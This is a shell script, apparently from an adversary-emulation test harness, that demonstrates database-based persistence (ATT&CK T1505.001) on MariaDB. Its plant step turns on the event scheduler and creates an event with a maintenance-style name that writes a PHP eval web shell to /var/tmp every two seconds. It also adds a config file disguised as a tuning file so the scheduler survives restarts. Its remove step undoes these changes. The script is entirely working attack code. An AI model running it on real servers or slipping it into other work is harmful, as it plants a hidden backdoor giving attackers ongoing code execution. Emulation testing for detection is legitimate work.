#!/bin/sh
# T1505.001 (quiet): An event of the database writes a file each few seconds
M=/var/tmp/luytre-foothold N=36-mariadb-event
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
db() { mariadb -N -e "$1"; }
plant() {
  db "SET GLOBAL event_scheduler=ON; CREATE DATABASE IF NOT EXISTS ltmaint; CREATE OR REPLACE EVENT ltmaint.purge ON SCHEDULE EVERY 2 SECOND DO SELECT '<?php @eval(\$_POST[1]);' INTO OUTFILE '/var/tmp/luytre-foothold/36-mariadb-event'"
  w /etc/mysql/mariadb.conf.d/60-tuning.cnf <<'E'
[mysqld]
event_scheduler=ON
E
}
prove() {
  rm -f "$M/$N"
  sleep 2; seen
}
remove() {
  db "DROP DATABASE ltmaint; SET GLOBAL event_scheduler=OFF"; rm -f /etc/mysql/mariadb.conf.d/60-tuning.cnf
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
